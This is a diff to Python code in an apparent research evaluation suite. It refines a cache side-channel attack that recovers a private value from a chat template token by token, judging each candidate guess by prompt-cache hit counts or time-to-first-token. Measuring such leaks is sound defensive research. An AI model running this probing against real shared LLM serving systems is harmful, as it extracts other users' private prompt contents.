@@ -10,13 +10,14 @@ template's text after the slot.
 
 from __future__ import annotations
 
+import statistics
 from collections import Counter, defaultdict
 from dataclasses import dataclass, field
 
 from cacheprune.engine import ChatTokenizer
 from eval.attacks.oracles import Oracle, miss_guesses
 from eval.attacks.outcome import AttackOutcome, Budget
-from eval.attacks.probe import Prober, SlotTarget, split_value, suffix_head
+from eval.attacks.probe import Prober, ProbeResult, SlotTarget, split_value, suffix_head
 from eval.workload.private_values import ValueSource
 
 END = -1  # the candidate "the value ends here"
@@ -62,20 +63,24 @@ class TokenStatistics:
 
 def extension_attack(prober: Prober, target: SlotTarget, oracle: Oracle, budget: Budget,
                      stats: TokenStatistics, outcome: AttackOutcome) -> None:
+    """Grow the value token by token; claim it when its end is hit.
+
+    With the hit count, the candidates of one step are compared with each other: they differ
+    only in their last token, so only the right one gets more hits than the rest. (A known-miss
+    reference would have to end differently, and the prober's own cached probes, or a
+    reference whose first character merges with the last known token, would skew it.)
+    """
     tokenizer = prober.tokenizer
     fixed = target.prefix[: len(target.prefix) - stats.fixed_suffix_chars]
-    head, num_head = suffix_head(tokenizer, target.suffix)
+    head, _ = suffix_head(tokenizer, target.suffix)
     start = prober.num_probes
     oracle.calibrate(prober, target.system, [fixed + miss for miss in miss_guesses()])
     budget.spend(prober.num_probes - start)
     known: list[int] = []
     while len(known) < MAX_VALUE_TOKENS:
         guessed = fixed + tokenizer.decode(known)
-        reference = None
-        if oracle.needs_reference:
-            reference = prober.send(target.system, guessed + miss_guesses(1)[0])
-            budget.spend()
-        accepted: list[tuple[float, int]] = []
+        results: list[tuple[ProbeResult, int]] = []
+        best: int | None = None
         for candidate in stats.candidates(known):
             if budget.exhausted:
                 outcome.budget_ran_out = True
@@ -83,21 +88,29 @@ def extension_attack(prober: Prober, target: SlotTarget, oracle: Oracle, budget:
                 return
             text = guessed + head if candidate == END else fixed + tokenizer.decode(
                 [*known, candidate])
-            result = prober.send(target.system, text)
+            results.append((prober.send(target.system, text), candidate))
             budget.spend()
-            # NOTE: the end is judged on the template's next tokens, less one of slack for the
-            # boundary token (see the dictionary attack).
-            need = max(1, num_head - 1) if candidate == END else 1
-            if oracle.is_hit(result, reference, need):
-                accepted.append((result.ttft_s, candidate))
-                if oracle.sequential:
+            if oracle.sequential:
+                best = _clear_winner(results)
+                if best is not None:
                     break
-        if not accepted:
+        if not oracle.sequential:
+            accepted = [(r.ttft_s, c) for r, c in results if oracle.is_hit(r, None, 1)]
+            best = min(accepted)[1] if accepted else None
+        if best is None:
             break
-        best = min(accepted)[1]
         if best == END:
             outcome.claimed = True
             outcome.recovered = guessed[len(target.prefix):] == target.value
             break
         known.append(best)
     outcome.num_probes += budget.used
+
+
+def _clear_winner(results: list[tuple[ProbeResult, int]]) -> int | None:
+    """The one candidate with more hits than the median of at least three, if there is one."""
+    if len(results) < 3:
+        return None
+    middle = statistics.median(result.hits for result, _ in results)
+    above = [candidate for result, candidate in results if result.hits > middle]
+    return above[0] if len(above) == 1 else None
